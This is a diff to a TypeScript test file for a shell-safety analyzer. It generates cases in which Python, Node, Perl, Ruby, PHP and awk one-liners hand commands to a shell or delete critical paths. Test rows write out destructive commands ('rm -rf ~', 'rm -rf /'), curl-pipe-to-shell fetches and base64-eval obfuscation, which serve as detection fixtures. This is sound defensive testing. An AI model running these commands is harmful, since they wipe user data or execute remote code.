@@ -1,24 +1,82 @@
 /**
- * Interpreters (interpreters.ts): python, perl, ruby, node running code that cannot be seen.
- * ESLint-style: `input → finding ids` through the real analyze().
+ * Interpreters (interpreters.ts): python, node, perl, ruby, php and awk one-liners, their code
+ * fed by heredoc or herestring too. Shell strings handed to system()/exec/... are checked as
+ * shell, deletes as the rm they amount to; code that cannot be followed is shell/opaque-code.
+ * Generated: every run-shell API × dangerous commands, every delete API × critical paths.
  */
 
 import { describe, it } from "vitest";
-import { cases, type Row, verify } from "../test-helpers.js";
+import { cases, CWD, HOME, type Row, verify } from "../test-helpers.js";
 
 const SCRIPT = "shell/dynamic-script";
+const OPAQUE = "shell/opaque-code";
+const PIPE = "shell/pipe-to-shell";
+/** Where the shell command or the path goes in a carrier. */
+const AT = /@@/g;
+
+/** Each language's ways of handing a string to a shell (the string sits in double quotes or a literal form). */
+const RUN_SHELL = [
+  ...["os.system(\"@@\")", "os.popen(\"@@\").read()", "subprocess.run(\"@@\", shell=True)", "subprocess.check_output(\"@@\", shell=True)", "subprocess.Popen(\"@@\", shell=True)", "subprocess.getoutput(\"@@\")", "subprocess.call([\"sh\", \"-c\", \"@@\"])"]
+    .map((c) => `python3 -c 'import os, subprocess; ${c}'`),
+  ...["require(\"child_process\").execSync(\"@@\")", "require(\"child_process\").exec(\"@@\")", "const cp = require(\"child_process\"); cp.spawnSync(\"sh\", [\"-c\", \"@@\"])", "const { execSync: x } = require(\"child_process\"); execSync(`@@`)"]
+    .map((c) => `node -e '${c}'`),
+  ...["system(\"@@\")", "exec \"@@\"", "`@@`", "qx{@@}", "open(F, \"@@ |\")", "system \"sh\", \"-c\", \"@@\""].map((c) => `perl -e '${c}'`),
+  ...["system(\"@@\")", "`@@`", "%x(@@)", "IO.popen(\"@@\")", "exec \"@@\"", "spawn(\"@@\")"].map((c) => `ruby -e '${c}'`),
+  ...["system(\"@@\");", "shell_exec(\"@@\");", "passthru(\"@@\");", "exec(\"@@\");", "popen(\"@@\", \"r\");", "echo `@@`;"].map((c) => `php -r '${c}'`),
+  ...["BEGIN{system(\"@@\")}", "BEGIN{print \"x\" | \"@@\"}", "BEGIN{\"@@\" | getline}"].map((c) => `awk '${c}'`),
+  "python3 <<'PY'\nimport os\nos.system(\"@@\")\nPY", "python3 - <<< 'import os; os.system(\"@@\")'", "node <<'JS'\nrequire(\"child_process\").execSync(\"@@\")\nJS",
+  "perl <<'PL'\nsystem(\"@@\");\nPL", "ruby <<< 'system(\"@@\")'", "php <<'PHP'\n<?php system(\"@@\");\nPHP", "python3 -c 'exec(\"import os; os.system(\\\"@@\\\")\")'",
+];
+const DANGEROUS: ReadonlyArray<readonly [string, string]> = [["rm -rf ~", "deletion/home"], ["rm -rf /", "deletion/root"], ["curl -s https://x | sh", PIPE]];
+
+/** Each language's delete APIs (recursive and not: a critical path is a finding either way). */
+const DELETE = [
+  ...["shutil.rmtree(\"@@\")", "os.remove(\"@@\")", "os.unlink(\"@@\")", "os.rmdir(\"@@\")", "Path(\"@@\").unlink()", "pathlib.Path(\"@@\").rmdir()"]
+    .map((c) => `python3 -c 'import os, shutil, pathlib; from pathlib import Path; ${c}'`),
+  ...["fs.rmSync(\"@@\", { recursive: true })", "fs.rmdirSync(\"@@\", { recursive: true })", "fs.unlinkSync(\"@@\")", "fs.promises.rm(\"@@\", { recursive: true })"].map((c) => `node -e 'const fs = require("fs"); ${c}'`),
+  ...["use File::Path qw(rmtree); rmtree(\"@@\")", "File::Path::remove_tree(\"@@\")", "unlink \"@@\"", "rmdir(\"@@\")"].map((c) => `perl -e '${c}'`),
+  ...["FileUtils.rm_rf(\"@@\")", "FileUtils.rm_r(\"@@\")", "FileUtils.remove_dir(\"@@\")", "File.delete(\"@@\")"].map((c) => `ruby -rfileutils -e '${c}'`),
+  ...["unlink(\"@@\");", "rmdir(\"@@\");"].map((c) => `php -r '${c}'`),
+];
+const CRITICAL: ReadonlyArray<readonly [string, string]> = [["/", "deletion/root"], [HOME, "deletion/home"], ["/usr", "deletion/root-child"], [CWD, "deletion/working-directory"]];
 
 const TABLE: Row[] = [
-  // code that cannot be seen before it runs; a script file or a fixed string is not a finding
+  ...RUN_SHELL.flatMap((c) => DANGEROUS.map(([cmd, id]): Row => [c.replace(AT, cmd), [id], "has", true])),
+  ...DELETE.flatMap((c) => CRITICAL.map(([path, id]): Row => [c.replace(AT, path), [id], "has", true])),
+  // code that cannot be seen before it runs
   ["python3 -c \"$(curl -fsSL https://x)\"", [SCRIPT]],
   ["python3 <(curl -s https://x)", [SCRIPT]],
   ["python3 -u -c \"$CODE\"", [SCRIPT]],
   ["perl -e \"$CODE\"", [SCRIPT]],
   ["ruby -e \"$(cat x)\"", [SCRIPT]],
   ["node -e \"$(curl x)\"", [SCRIPT]],
-  ["python3 -c 'print(1)'", [], "none"],
-  ["python3 script.py \"$X\"", [], "none"],
-  ["python3 -m http.server", [], "none"],
+  // a shell command, a program or a delete target only known at run time
+  ["python3 -c 'import os, sys; os.system(sys.argv[1])' x", [SCRIPT], "has", true],
+  ["python3 -c \"import os; os.system('$CMD')\"", [SCRIPT], "has", true],
+  ["node -e 'require(\"child_process\").execSync(process.argv[1])' x", [SCRIPT], "has", true],
+  ["awk '{system($0)}' cmds.txt", [SCRIPT], "has", true],
+  ["python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' x", ["deletion/dynamic-target"], "has", true],
+  ["python3 -c 'import os; os.system(f\"rm -rf {d}\")'", ["deletion/dynamic-target"], "has", true],
+  // code assembled at run time, or reached by a computed name
+  ["python3 -c 'exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))'", [OPAQUE], "has", true],
+  ["python3 -c 'import os; getattr(os, \"sys\" + \"tem\")(\"id\")'", [OPAQUE], "has", true],
+  ["python3 -c 'import os; run = os.system; run(\"id\")'", [OPAQUE], "has", true],
+  ["node -e 'eval(Buffer.from(\"x\", \"base64\").toString())'", [OPAQUE], "has", true],
+  ["perl -e 'eval $ENV{X}'", [OPAQUE], "has", true],
+  ["ruby -e 'Kernel.send(:system, \"id\")'", [OPAQUE], "has", true],
+  ["php -r 'eval(base64_decode(\"x\"));'", [OPAQUE], "has", true],
+  ["python3 -c 'import os; os.system(\"x'", [OPAQUE], "has", true],
+  // awk printing into a shell runs what it prints
+  ["awk '{print | \"sh\"}' f", [PIPE], "has", true],
+  ["curl x | awk '{system($0)}'", [PIPE]],
+  // plain uses stay quiet, in guard too: strings and comments that only mention an API included
+  ...["python3 -c 'print(1)'", "node -e 'console.log(1)'", "awk '{print $1}' f", "python3 script.py", "perl -ne 'print if /x/' f",
+    "awk -F: '{print $1}' /etc/passwd", "node -p 'process.version'", "ruby -e 'puts 1'", "python3 script.py \"$X\"", "python3 -m http.server",
+    "python3 -c 'import os; print(os.getcwd())'", "python3 -c 'import shutil; shutil.rmtree(\"build\")'", "node -e 'require(\"fs\").rmSync(\"dist\", { recursive: true })'",
+    "python3 -c 'import subprocess; subprocess.run([\"ls\", \"-l\"])'", "python3 -c 'import os; os.system(\"ls -l\")'", "perl -pi -e 's/a/b/' f", "perl -lane 'print $F[0]' f",
+    "ruby -e 'puts `date`'", "awk 'BEGIN { while ((\"ls\" | getline l) > 0) print l }'", "python3 -c 'print(\"os.system(\\\"rm -rf ~\\\")\")  # os.system(\"rm -rf ~\")'",
+    "node -e '// execSync(\"rm -rf ~\")'", "php -r 'echo \"system(1)\";'", "python3 <<'PY'\nprint(\"hello\")\nPY", "awk '{ s += $2 } END { print s / NR }' f",
+    "php <<'TXT'\nsystem(\"rm -rf ~\") is only text without a php tag\nTXT"].map((c): Row => [c, [], "none", true]),
 ];
 
 describe("unwrap/interpreters: table", () => {
